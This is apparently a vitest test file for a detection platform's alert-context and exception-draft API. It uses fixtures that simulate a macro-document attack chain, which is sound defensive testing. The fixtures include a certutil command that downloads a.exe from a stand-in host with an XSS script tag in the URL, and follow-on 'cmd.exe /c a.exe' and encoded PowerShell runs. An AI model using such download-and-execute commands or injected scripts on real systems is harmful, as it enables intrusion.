import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildEventAlert } from '../../alerts/build.js';
import type { AlertDocument } from '../../alerts/types.js';
import { MIN, T0 } from '../../rules/test-fixtures.js';
import { anomalyAlert, apiHarness, ML_RULE_ID, QUERY_RULE_ID, storedEvent, type ApiHarness } from './testing.js';

const HOUR = 60 * MIN;
const AT = T0 + HOUR; // when certutil ran
const EVIL_CMD = `certutil.exe -urlcache -f "http://x.test/<script>alert('x')</script>" a.exe`;

interface Context {
  history: {
    process_name: string;
    user: string;
    first_seen: string | null;
    last_seen: string | null;
    count_for_user: number;
    users_running_it: number;
    other_users: number;
    events_since: string;
    rarity?: { first_occurrence: boolean; summary: string };
  };
  timeline: Array<{ time: string; process_name: string; command_line: string; malicious_probability: number | null; event_key: string; is_alert: boolean }>;
  parent_chain: Array<{ name: string; command_line: string | null; pid?: number; found: boolean }>;
  children: Array<{ name: string; command_line: string; time: string }>;
}

let h: ApiHarness;
let eventAlertDoc: AlertDocument;
let anomalyDoc: AlertDocument;

beforeAll(async () => {
  h = await apiHarness();
  const [ml, query] = h.rules;
  const alice = { user: 'alice', host: 'WS-01' };
  const cert = storedEvent({ ...alice, timeMs: AT, name: 'certutil.exe', cmd: EVIL_CMD, parent: 'winword.exe', pid: 300, entityId: 'E-cert', parentPid: 200, parentEntityId: 'E-word', p: 0.97, line: 4 });
  const events = [
    storedEvent({ ...alice, timeMs: T0 - 86_400_000, name: 'certutil.exe', cmd: 'certutil.exe -hashfile a.txt', parent: 'cmd.exe', pid: 77, p: 0.2, line: 1 }),
    storedEvent({ ...alice, timeMs: T0, name: 'explorer.exe', cmd: 'C:\\Windows\\explorer.exe', parent: 'userinit.exe', pid: 100, entityId: 'E-explorer', parentPid: 50, parentCmd: 'userinit.exe', p: 0.01, line: 2 }),
    storedEvent({ ...alice, timeMs: T0 + 10 * MIN, name: 'winword.exe', cmd: 'WINWORD.EXE /n invoice.docm', parent: 'explorer.exe', pid: 200, entityId: 'E-word', parentPid: 100, parentEntityId: 'E-explorer', p: 0.05, line: 3 }),
    cert,
    storedEvent({ ...alice, timeMs: AT + MIN, name: 'cmd.exe', cmd: 'cmd.exe /c a.exe', parent: 'certutil.exe', pid: 400, parentPid: 300, parentEntityId: 'E-cert', p: 0.8, line: 5 }),
    storedEvent({ ...alice, timeMs: AT + 2 * MIN, name: 'powershell.exe', cmd: 'powershell.exe -enc AAAA', parent: 'certutil.exe', pid: 401, parentPid: 300, p: 0.9, line: 6 }),
    storedEvent({ ...alice, timeMs: AT + 5 * HOUR, name: 'notepad.exe', cmd: 'notepad.exe', parent: 'explorer.exe', pid: 500, parentPid: 100, p: 0.01, line: 7 }),
    // Same pid as certutil's but on another host: not a child.
    storedEvent({ user: 'alice', host: 'WS-02', timeMs: AT + MIN, name: 'whoami.exe', cmd: 'whoami', parent: 'certutil.exe', pid: 900, parentPid: 300, line: 8 }),
    storedEvent({ user: 'bob', host: 'WS-03', timeMs: T0 - 3 * 86_400_000, name: 'CertUtil.exe', cmd: 'certutil -v', pid: 10, line: 9 }),
    storedEvent({ user: 'carol', host: 'WS-04', timeMs: T0 - 2 * 86_400_000, name: 'certutil.exe', cmd: 'certutil -v', pid: 11, line: 10 }),
    storedEvent({ user: 'dave', host: 'WS-05', timeMs: T0, name: 'calc.exe', pid: 12, line: 11 }),
  ];
  expect(h.events.add(events)).toBe(events.length);
  eventAlertDoc = buildEventAlert(cert, { rule: query, executionMs: AT + 5 * MIN });
  anomalyDoc = anomalyAlert(ml, { timestamp: T0 + 60 * MIN, score: 91, user: 'alice', process: 'certutil.exe', eventIds: ['events.ndjson:4'] });
  h.alerts.insert(eventAlertDoc);
  h.alerts.insert(anomalyDoc);
});
afterAll(async () => h.close());

const ctxOf = async (id: string, query = ''): Promise<{ status: number; body: Context }> => {
  const r = await h.app.inject({ method: 'GET', url: `/api/v1/alerts/${id}/context${query}` });
  return { status: r.statusCode, body: r.json() as Context };
};

describe('GET /api/v1/alerts/:id/context', () => {
  it("tells the user's history with the process and how many others run it", async () => {
    const { status, body } = await ctxOf(eventAlertDoc.kibana.alert.uuid);
    expect(status).toBe(200);
    expect(body.history).toEqual({
      process_name: 'certutil.exe',
      user: 'alice',
      first_seen: new Date(T0 - 86_400_000).toISOString(),
      last_seen: new Date(AT).toISOString(),
      count_for_user: 2,
      users_running_it: 3,
      other_users: 2,
      events_since: new Date(T0 - 3 * 86_400_000).toISOString(),
    });
  });

  it("lays out the user's processes within ±2 h, marking the alert's event, with stored probabilities", async () => {
    const { body } = await ctxOf(eventAlertDoc.kibana.alert.uuid);
    expect(body.timeline.map((t) => [t.process_name, t.malicious_probability, t.is_alert])).toEqual([
      ['explorer.exe', 0.01, false],
      ['winword.exe', 0.05, false],
      ['certutil.exe', 0.97, true],
      ['cmd.exe', 0.8, false],
      ['whoami.exe', 0.99, false],
      ['powershell.exe', 0.9, false],
    ]);
    expect(body.timeline[2].command_line).toBe(EVIL_CMD);
    expect(body.timeline[2].time).toBe(new Date(AT).toISOString());
  });

  it('narrows the timeline by window and bounds it by count, keeping the nearest events', async () => {
    const w = await ctxOf(eventAlertDoc.kibana.alert.uuid, '?window_minutes=30');
    expect(w.body.timeline.map((t) => t.process_name)).toEqual(['certutil.exe', 'cmd.exe', 'whoami.exe', 'powershell.exe']);
    const n = await ctxOf(eventAlertDoc.kibana.alert.uuid, '?limit=2');
    expect(n.body.timeline.map((t) => t.process_name)).toEqual(['certutil.exe', 'cmd.exe']);
  });

  it('follows the parent chain on the same host by entity id and pid, ending where events run out', async () => {
    const { body } = await ctxOf(eventAlertDoc.kibana.alert.uuid);
    expect(body.parent_chain).toEqual([
      { name: 'winword.exe', command_line: 'WINWORD.EXE /n invoice.docm', pid: 200, time: new Date(T0 + 10 * MIN).toISOString(), found: true },
      { name: 'explorer.exe', command_line: 'C:\\Windows\\explorer.exe', pid: 100, time: new Date(T0).toISOString(), found: true },
      { name: 'userinit.exe', command_line: 'userinit.exe', pid: 50, found: false },
    ]);
  });

  it('finds children on the same host by parent entity id or parent pid and name', async () => {
    const { body } = await ctxOf(eventAlertDoc.kibana.alert.uuid);
    expect(body.children).toEqual([
      { name: 'cmd.exe', command_line: 'cmd.exe /c a.exe', pid: 400, time: new Date(AT + MIN).toISOString() },
      { name: 'powershell.exe', command_line: 'powershell.exe -enc AAAA', pid: 401, time: new Date(AT + 2 * MIN).toISOString() },
    ]);
  });

  it("anchors an anomaly alert on its record's event and carries the rarity job's evidence", async () => {
    const { body } = await ctxOf(anomalyDoc.kibana.alert.uuid);
    expect(body.history.count_for_user).toBe(2);
    expect(body.history.rarity).toMatchObject({ first_occurrence: true, summary: 'certutil.exe is new for alice' });
    expect(body.timeline.filter((t) => t.is_alert).map((t) => t.process_name)).toEqual(['certutil.exe']);
    expect(body.parent_chain.map((p) => p.name)).toEqual(['winword.exe', 'explorer.exe', 'userinit.exe']);
    expect(body.children.map((c) => c.name)).toEqual(['cmd.exe', 'powershell.exe']);
  });

  it('answers 404 for an unknown alert and 400 for a bad window', async () => {
    const nf = await h.app.inject({ method: 'GET', url: '/api/v1/alerts/0000/context' });
    expect(nf.statusCode).toBe(404);
    expect(nf.json()).toMatchObject({ error: { code: 'NOT_FOUND' } });
    for (const q of ['?window_minutes=0', '?window_minutes=x', '?limit=100000', '?depth=3']) {
      const r = await h.app.inject({ method: 'GET', url: `/api/v1/alerts/${eventAlertDoc.kibana.alert.uuid}/context${q}` });
      expect(r.statusCode, q).toBe(400);
      expect(r.json()).toMatchObject({ error: { code: 'BAD_REQUEST' } });
    }
  });
});

describe('GET /api/v1/alerts/:id/exception-draft', () => {
  it("prefills an Elastic exception item from the alert's fields, which POST /exceptions accepts", async () => {
    const r = await h.app.inject({ method: 'GET', url: `/api/v1/alerts/${eventAlertDoc.kibana.alert.uuid}/exception-draft` });
    expect(r.statusCode).toBe(200);
    const draft = r.json() as { item_id: string; list_id: string; rule_id: string; entries: unknown[]; type: string; namespace_type: string };
    expect(draft.rule_id).toBe(QUERY_RULE_ID);
    expect(draft.list_id).toBe(`rule-${QUERY_RULE_ID}`);
    expect(draft.type).toBe('simple');
    expect(draft.entries).toEqual([
      { field: 'process.name', operator: 'included', type: 'match', value: 'certutil.exe' },
      { field: 'process.command_line', operator: 'included', type: 'match', value: EVIL_CMD },
      { field: 'user.name', operator: 'included', type: 'match', value: 'alice' },
      { field: 'host.name', operator: 'included', type: 'match', value: 'WS-01' },
      { field: 'process.parent.name', operator: 'included', type: 'match', value: 'winword.exe' },
    ]);
    const created = await h.app.inject({ method: 'POST', url: '/api/v1/exceptions', payload: draft });
    expect(created.statusCode).toBe(201);
    expect(created.json()).toMatchObject({ id: draft.item_id, rule_id: QUERY_RULE_ID, entries: draft.entries });
    expect(h.ctx.exceptions.getList(draft.list_id)).toMatchObject({ type: 'rule_default', rule_ids: [QUERY_RULE_ID] });
    const ml = await h.app.inject({ method: 'GET', url: `/api/v1/alerts/${anomalyDoc.kibana.alert.uuid}/exception-draft` });
    expect(ml.json()).toMatchObject({ rule_id: ML_RULE_ID, list_id: `rule-${ML_RULE_ID}` });
    expect((await h.app.inject({ method: 'GET', url: '/api/v1/alerts/abc/exception-draft' })).statusCode).toBe(404);
  });
});
